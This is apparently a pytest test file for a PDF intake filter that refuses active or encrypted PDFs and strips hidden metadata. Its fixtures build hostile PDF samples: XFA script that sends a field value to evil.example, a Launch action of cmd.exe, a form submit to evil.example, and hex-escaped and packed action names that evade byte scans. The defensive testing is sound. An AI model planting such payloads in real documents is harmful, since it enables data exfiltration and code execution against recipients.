"""PDFs: clean ones stored as given; encrypted, active or malformed ones refused."""
from __future__ import annotations

import io

import pytest
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from evidence.pdfs import active_name_in_raw_bytes
from tests.evidence import corpus
from tests.evidence.corpus import intake, raw_pdf, refusal

PREFIX = "This PDF contains"


def page_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_clean_pdf_is_accepted_with_its_pages():
    data = corpus.pypdf_pdf()
    result = intake(data, "Policy final.PDF")
    stored = PdfReader(io.BytesIO(result.content))
    assert len(stored.pages) == 1 and stored.pages[0].mediabox.width == 200
    assert intake(data, "again.pdf").content == result.content  # the same upload is stored the same way
    assert (result.mime_type, result.extension, result.kind) == ("application/pdf", ".pdf", "pdf")
    assert result.display_name == "Policy final.pdf"
    assert result.thumbnail is None and result.width is None


def test_hand_written_clean_pdf_with_tricky_text_is_accepted():
    """Names in strings, streams and longer names (/JSON) are not active content."""
    content = b"BT /F1 12 Tf (see /JavaScript and /Launch) Tj ET /JS"
    objects = corpus.minimal_pdf_objects(catalog_extra=b"/JSON (x) /Lang (en)", content=content)
    objects.append(b"<< /Title (About /JS and /Launch actions) >>")
    data = raw_pdf(*objects, trailer_extra=b"/Info 5 0 R ")
    stored = intake(data, "notes.pdf").content
    assert b"(see /JavaScript and /Launch) Tj" in b"".join(
        page.get_contents().get_data() for page in PdfReader(io.BytesIO(stored)).pages
    )


def _open_action_js(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )


def test_pdf_with_javascript_open_action_is_refused():
    assert f"{PREFIX} JavaScript" in refusal(corpus.pypdf_pdf(_open_action_js), "invoice.pdf")


def test_pdf_with_document_javascript_is_refused():
    from pypdf.actions import JavaScript

    message = refusal(corpus.pypdf_pdf(lambda writer: writer.add_open_action(JavaScript("app.alert('hi');"))))
    assert f"{PREFIX} JavaScript" in message


def test_pdf_with_javascript_name_tree_is_refused():
    objects = corpus.minimal_pdf_objects(catalog_extra=b"/Names << /JavaScript 5 0 R >>")
    objects.append(b"<< /Names [(init) << /S /JavaScript /JS (app.alert(3)) >>] >>")
    assert f"{PREFIX} JavaScript" in refusal(raw_pdf(*objects))


def test_pdf_with_javascript_in_annotation_additional_action_is_refused():
    annotation = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
        b"/AA << /E << /S /JavaScript /JS (app.alert(2)) >> >> >>"
    )
    objects = corpus.minimal_pdf_objects(page_extra=b"/Annots [5 0 R]")
    objects.append(annotation)
    assert f"{PREFIX} JavaScript" in refusal(raw_pdf(*objects))


def test_pdf_with_hex_escaped_javascript_name_is_refused():
    objects = corpus.minimal_pdf_objects(catalog_extra=b"/OpenAction << /S /Java#53cript /J#53 (x) >>")
    data = raw_pdf(*objects)
    assert active_name_in_raw_bytes(data) == "JavaScript"
    assert f"{PREFIX} JavaScript" in refusal(data)


def _launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )


def test_pdf_with_launch_action_is_refused():
    assert f"{PREFIX} a launch action" in refusal(corpus.pypdf_pdf(_launch))


def test_pdf_with_embedded_file_is_refused():
    message = refusal(corpus.pypdf_pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ...")))
    assert f"{PREFIX} embedded files" in message


def test_pdf_with_file_attachment_annotation_is_refused():
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /Contents (see attached) >>"
    objects = corpus.minimal_pdf_objects(page_extra=b"/Annots [5 0 R]")
    objects.append(annotation)
    assert f"{PREFIX} a file attachment" in refusal(raw_pdf(*objects))


def test_active_content_in_compressed_object_streams_is_found_by_the_object_walk():
    """Objects inside a compressed object stream are out of reach of the raw byte scan."""
    data = corpus.pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>")
    assert active_name_in_raw_bytes(data) is None
    assert f"{PREFIX} a launch action" in refusal(data)


def test_clean_pdf_with_object_stream_is_accepted():
    data = corpus.pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    stored = PdfReader(io.BytesIO(intake(data).content))
    assert stored.trailer["/Root"]["/OpenAction"]["/S"] == "/GoTo"


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_encrypted_pdf_is_refused(algorithm):
    try:
        data = corpus.pypdf_pdf(lambda writer: writer.encrypt("secret", algorithm=algorithm))
    except Exception as error:  # AES needs pypdf's crypto extra
        pytest.skip(f"pypdf cannot write {algorithm} here: {error}")
    assert "This PDF is encrypted or password-protected" in refusal(data)


def test_pdf_encrypted_with_empty_user_password_is_still_refused():
    data = corpus.pypdf_pdf(lambda writer: writer.encrypt("", owner_password="owner"))
    assert "encrypted or password-protected" in refusal(data)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\nthis is not a pdf at all\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    ],
)
def test_malformed_pdf_is_refused(data):
    message = refusal(data)
    assert "This PDF is damaged or malformed" in message or "This PDF has no pages" in message


def test_truncated_pdf_is_refused():
    data = corpus.pypdf_pdf()
    assert "This PDF is damaged or malformed" in refusal(data[: len(data) // 3])


# --- active content the first version stored ---------------------------------------------------------

XFA_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"app.launchURL('https://evil.example/?' + this.rawValue);</script></event></subform></template>"
)


def test_xfa_form_with_javascript_in_a_packed_stream_is_refused():
    """/XFA is hex-escaped and packed in an object stream; its script sits in a compressed stream."""
    data = corpus.packed_page_pdf(
        catalog_extra=b"/AcroForm 5 0 R",
        more={5: b"<< /Fields [] /X#46A [(template) 6 0 R] >>"},
        streams={6: corpus.flate_stream(XFA_TEMPLATE)},
    )
    assert b"XFA" not in data and b"script" not in data
    message = refusal(data, "form.pdf")
    assert f"{PREFIX} an XFA form" in message and "Print or save it to a new PDF" in message


def test_script_in_a_stream_under_an_unknown_name_is_refused():
    """No dictionary name gives it away: only the decoded stream shows the script."""
    data = corpus.packed_page_pdf(catalog_extra=b"/Extras 5 0 R", streams={5: corpus.flate_stream(XFA_TEMPLATE)})
    assert active_name_in_raw_bytes(data) is None
    assert f"{PREFIX} a script hidden in its data" in refusal(data)


def test_3d_annotation_with_javascript_is_refused():
    data = corpus.packed_page_pdf(
        page_extra=b"/Annots [5 0 R]",
        more={5: b"<< /Type /Annot /Subtype /#33D /Rect [0 0 100 100] /#33DD 6 0 R >>"},
        streams={
            6: corpus.flate_stream(b"U3D\x00model", b"/Type /3D /Subtype /U3D /OnInstantiate 7 0 R "),
            7: corpus.flate_stream(b"host.getURL('https://evil.example');"),
        },
    )
    assert f"{PREFIX} a 3D model, which can carry JavaScript" in refusal(data, "model.pdf")


def test_rich_media_annotation_is_refused():
    data = corpus.packed_page_pdf(
        page_extra=b"/Annots [5 0 R]",
        more={5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>"},
    )
    assert f"{PREFIX} rich media" in refusal(data)


ACTIONS = {
    "GoToR": (
        b"<< /S /GoToR /F (\\\\\\\\files.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        "a link that opens another file",
    ),
    "ImportData": (b"<< /S /ImportData /F (data.fdf) >>", "an action that imports data from another file"),
    "SubmitForm": (b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>", "a form that sends"),
    "URI": (b"<< /S /URI /URI (https://tracker.example/opened) >>", "a web link (URI action)"),
    "Rendition": (b"<< /S /Rendition /OP 0 >>", "a media action (Rendition)"),
    "Launch": (b"<< /S /Launch /F (cmd.exe) >>", "a launch action"),
    "GoToE": (b"<< /S /GoToE /T << /R /C /N (x) >> >>", "a link into an embedded file"),
    "JavaScript": (b"<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
    "unknown": (b"<< /S /GoToRemoteScript /F (x) >>", "an action of a kind Haven does not allow (GoToRemoteScript)"),
    "menu": (b"<< /S /Named /N /SaveAs >>", "a menu command action (SaveAs)"),
}
PLACES = {
    "on open": lambda action: {"catalog_extra": b"/OpenAction 5 0 R", "more": {5: action}},
    "on a page": lambda action: {"page_extra": b"/AA << /O 5 0 R >>", "more": {5: action}},
    "on an annotation": lambda action: {
        "page_extra": b"/Annots [5 0 R]",
        "more": {5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 6 0 R >>", 6: action},
    },
    "in a form field": lambda action: {
        "catalog_extra": b"/AcroForm << /Fields [5 0 R] >>",
        "page_extra": b"/Annots [5 0 R]",
        "more": {
            5: b"<< /FT /Tx /T (Name) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R /AA << /K 6 0 R >> >>",
            6: action,
        },
    },
    "in the third outline item, whose siblings loop": lambda action: {
        "catalog_extra": b"/Outlines 5 0 R",
        "more": {
            5: b"<< /Type /Outlines /First 6 0 R /Last 8 0 R /Count 3 >>",
            6: b"<< /Title (Intro) /Parent 5 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>",
            7: b"<< /Title (Plan) /Parent 5 0 R /Prev 6 0 R /Next 8 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            8: b"<< /Title (Exits) /Parent 5 0 R /Prev 7 0 R /Next 6 0 R /A 9 0 R >>",
            9: action,
        },
    },
    "in a chain after a harmless action": lambda action: {
        "catalog_extra": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [10 0 R] >>",
        "more": {10: action},
    },
    "in a name tree": lambda action: {
        "catalog_extra": b"/Names << /Dests 5 0 R >>",
        "more": {5: b"<< /Kids [6 0 R] >>", 6: b"<< /Names [(x) 7 0 R] /Limits [(x) (x)] >>", 7: action},
    },
}


def _hex_escaped(action: bytes) -> bytes:
    """The action's kind written with #xx escapes, which PDF readers decode."""
    kind = action.split(b"/S /", 1)[1].split()[0]
    escaped = b"".join(b"#%02X" % byte for byte in kind)
    return action.replace(b"/S /" + kind, b"/S /" + escaped, 1)


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("kind", list(ACTIONS))
def test_risky_actions_are_refused_wherever_they_are(kind, place):
    action, reason = ACTIONS[kind]
    data = corpus.packed_page_pdf(**PLACES[place](_hex_escaped(action)))
    assert active_name_in_raw_bytes(data) is None  # packed and escaped: only the object walk can see it
    message = refusal(data, "plan.pdf")
    assert message.startswith(f"{PREFIX} {reason}")
    assert "Haven refuses for safety" in message


def test_safe_actions_and_outlines_are_accepted():
    data = corpus.packed_page_pdf(**PLACES["in the third outline item, whose siblings loop"](
        b"<< /S /Named /N /NextPage /Next << /S /GoTo /D [3 0 R /Fit] >> >>"
    ))
    assert PdfReader(io.BytesIO(intake(data).content)).outline


def test_links_are_refused_with_advice():
    message = refusal(corpus.packed_page_pdf(**PLACES["on an annotation"](ACTIONS["URI"][0])))
    assert "A link can tell a web site who opened the file and when" in message


@pytest.mark.parametrize(
    "objects",
    [
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"},
        {1: b"<< /Type /Catalog /Pages 2 0 R /Loop 5 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", 5: b"[5 0 R << /Again 5 0 R >>]"},
        {1: b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * 20_000 + b"]" * 20_000 + b" >>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"},
    ],
    ids=["pages that contain themselves", "objects that refer to themselves", "arrays nested 20,000 deep"],
)
def test_cyclic_and_absurd_pdfs_are_refused_or_accepted_without_crashing(objects):
    from evidence.errors import IntakeError

    data = corpus.packed_pdf(objects)
    try:
        result = intake(data)
    except IntakeError as error:
        assert error.code in ("damaged", "pdf")
    else:
        assert PdfReader(io.BytesIO(result.content)).pages


# --- hidden data: what the stored copy must not keep --------------------------------------------------

SECRETS = ("Jane Caseworker", "CaseTrack Pro", "Harbour Lane", "home visit notes", "xmp author secret", "piece secret")


def _all_decoded_bytes(data: bytes) -> bytes:
    """The file's bytes and every stream it holds, decoded: where a hidden value could still be."""
    reader = PdfReader(io.BytesIO(data))
    numbers = {number for table in reader.xref.values() for number in table} | set(reader.xref_objStm)
    found = [data]
    for number in sorted(numbers):
        item = reader.get_object(number)
        if hasattr(item, "get_data"):
            found.append(item.get_data())
    return b"\n".join(found)


def _with_metadata(writer):
    from pypdf.generic import DecodedStreamObject

    writer.add_metadata({
        "/Author": SECRETS[0], "/Creator": SECRETS[1], "/Producer": SECRETS[1], "/Title": SECRETS[2],
        "/Subject": SECRETS[3], "/Keywords": SECRETS[3],
    })
    xmp = DecodedStreamObject()
    xmp.set_data(
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>" + SECRETS[4].encode() + b"</dc:creator></x:xmpmeta>"
    )
    xmp.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    writer.pages[0][NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Word"): DictionaryObject({NameObject("/Private"): TextStringObject(SECRETS[5])})}
    )
    writer.pages[0][NameObject("/Annots")] = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
        NameObject("/T"): TextStringObject(SECRETS[0]), NameObject("/Contents"): TextStringObject("checked"),
    }))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer.pages[0]["/Annots"]])


def test_document_information_xmp_and_comment_authors_are_removed():
    data = corpus.pypdf_pdf(_with_metadata)
    assert all(secret.encode() in _all_decoded_bytes(data) for secret in SECRETS)
    stored = intake(data, "policy.pdf").content
    everything = _all_decoded_bytes(stored)
    assert [secret for secret in SECRETS if secret.encode() in everything] == []
    reader = PdfReader(io.BytesIO(stored))
    assert reader.metadata is None and reader.xmp_metadata is None
    assert reader.pages[0]["/Annots"][0].get_object()["/Contents"] == "checked"  # the comment itself stays


def _with_replies_without_rect(writer) -> None:
    """A comment and a reply to it whose dictionaries leave out /Rect (the reply is shown in the comment's thread)."""
    comment = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
        NameObject("/T"): TextStringObject("Jane Caseworker"), NameObject("/Contents"): TextStringObject("checked"),
    }))
    reply = writer._add_object(DictionaryObject({
        NameObject("/Subtype"): NameObject("/Text"), NameObject("/IRT"): comment,
        NameObject("/T"): TextStringObject("Sam Keyworker"), NameObject("/Contents"): TextStringObject("agreed"),
    }))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([comment, reply])


def test_comment_authors_are_removed_even_from_comments_without_a_rect():
    data = corpus.pypdf_pdf(_with_replies_without_rect)
    assert b"Jane Caseworker" in _all_decoded_bytes(data) and b"Sam Keyworker" in _all_decoded_bytes(data)
    stored = intake(data, "policy.pdf").content
    everything = _all_decoded_bytes(stored)
    assert b"Jane Caseworker" not in everything and b"Sam Keyworker" not in everything
    assert b"agreed" in everything  # the comments themselves stay


def test_an_earlier_revision_kept_by_an_incremental_save_is_not_stored():
    first = b"BT /F1 12 Tf 10 100 Td (Refuge at 27 Harbour Lane) Tj ET"
    objects = corpus.minimal_pdf_objects(content=first)
    edited = b"BT /F1 12 Tf 10 100 Td (Address withheld) Tj ET"
    data = corpus.incremental_update(raw_pdf(*objects), 4, b"<< /Length %d >>\nstream\n" % len(edited) + edited
                                     + b"\nendstream")
    assert b"27 Harbour Lane" in data
    stored = intake(data, "plan.pdf").content
    assert b"Harbour Lane" not in _all_decoded_bytes(stored)
    assert b"Address withheld" in _all_decoded_bytes(stored)


def _pdf_with_picture(picture_bytes: bytes, width: int = 40, height: int = 30) -> bytes:
    from fpdf import FPDF

    pdf = FPDF(unit="pt", format=(200, 200))
    pdf.add_page()
    pdf.image(io.BytesIO(picture_bytes), x=10, y=10, w=width, h=height)
    return bytes(pdf.output())


def _stored_pictures(data: bytes):
    return [image.image for page in PdfReader(io.BytesIO(data)).pages for image in page.images]


def test_photo_inside_a_pdf_loses_its_gps_and_camera_data():
    photo = corpus.jpeg_with_everything()
    data = _pdf_with_picture(photo)
    secrets = (corpus.CAMERA_MAKE, corpus.XMP_SECRET, corpus.COMMENT_SECRET, corpus.IPTC_SECRET)
    assert all(secret.encode() in data for secret in secrets)  # fpdf2 embeds the JPEG as it is
    stored = intake(data, "premises.pdf").content
    everything = _all_decoded_bytes(stored)
    assert [secret for secret in secrets if secret.encode() in everything] == []
    assert b"Exif\x00\x00" not in everything and b"GPS" not in everything
    (picture,) = _stored_pictures(stored)
    assert not picture.getexif() and picture.size == (40, 30)
    red, blue = picture.convert("RGB").getpixel((3, 3)), picture.convert("RGB").getpixel((30, 20))
    assert red[0] > 200 and blue[2] > 200  # the same picture, as the PDF drew it


def test_colour_under_transparent_pixels_of_a_pdf_picture_is_erased():
    from PIL import Image

    picture = Image.new("RGBA", (32, 32), (0, 90, 0, 255))
    picture.paste((250, 240, 230, 0), (4, 10, 28, 20))
    out = io.BytesIO()
    picture.save(out, format="PNG")
    data = _pdf_with_picture(out.getvalue(), 32, 32)
    before = _stored_pictures(data)[0]
    assert before.getpixel((8, 12))[3] == 0 and before.getpixel((8, 12))[0] > 200
    (after,) = _stored_pictures(intake(data).content)
    assert after.getpixel((8, 12)) == (0, 0, 0, 0)
    assert after.getpixel((1, 1))[3] == 255 and after.getpixel((1, 1))[1] > 60


def test_every_picture_of_a_pdf_passes_through_the_embedded_image_hook():
    from PIL import Image

    from evidence.embedded_images import embedded_image_transform

    seen = []

    def blacken(picture, where):
        seen.append((picture.size, where))
        return Image.new(picture.mode, picture.size)

    plain = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 200, 200)).save(plain, format="PNG")  # no metadata: re-encoded only for the hook
    data = _pdf_with_picture(plain.getvalue(), 16, 16)
    assert min(_stored_pictures(intake(data).content)[0].getpixel((5, 5))) == 200
    with embedded_image_transform(blacken):
        stored = intake(data).content
    assert seen == [((16, 16), "PDF page 1, picture /I1")]
    assert _stored_pictures(stored)[0].convert("RGB").getpixel((5, 5)) == (0, 0, 0)
    assert min(_stored_pictures(intake(data).content)[0].getpixel((5, 5))) == 200  # the hook ended with the block


def test_a_transparent_picture_reaches_the_hook_once_with_its_alpha():
    from PIL import Image

    from evidence.embedded_images import embedded_image_transform

    seen = []
    out = io.BytesIO()
    Image.new("RGBA", (16, 16), (200, 10, 10, 128)).save(out, format="PNG")
    data = _pdf_with_picture(out.getvalue(), 16, 16)
    with embedded_image_transform(lambda picture, where: seen.append(picture.mode) or picture):
        intake(data)
    assert seen == ["RGBA"]


def test_a_picture_that_cannot_be_read_is_refused_with_advice():
    image = b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 " \
            b"/Filter /DCTDecode /Length 12 >>\nstream\n\xff\xd8\xff\xe1garbage!\nendstream"
    data = corpus.packed_page_pdf(
        page_extra=b"/Resources << /XObject << /Im0 5 0 R >> >>",
        streams={5: image},
        content=b"q 8 0 0 8 0 0 cm /Im0 Do Q",
    )
    message = refusal(data)
    assert message.startswith("This PDF holds a picture Haven cannot read to remove its hidden data")
    assert "Print or save it to a new PDF" in message


def test_a_jpeg_written_into_the_page_itself_is_refused():
    jpeg = corpus.jpeg_with_everything()
    content = b"q 40 0 0 30 0 0 cm BI /W 40 /H 30 /CS /RGB /BPC 8 /F /DCT ID " + jpeg + b" EI Q"
    data = raw_pdf(*corpus.minimal_pdf_objects(content=content))
    assert "a JPEG picture written into the page itself" in refusal(data)


def test_action_kind_kept_as_an_object_of_its_own_is_refused():
    data = corpus.packed_page_pdf(catalog_extra=b"/OpenAction << /S 5 0 R /F (data.fdf) >>", more={5: b"/Im#70ortData"})
    assert active_name_in_raw_bytes(data) is None
    assert refusal(data).startswith(f"{PREFIX} an action that imports data")
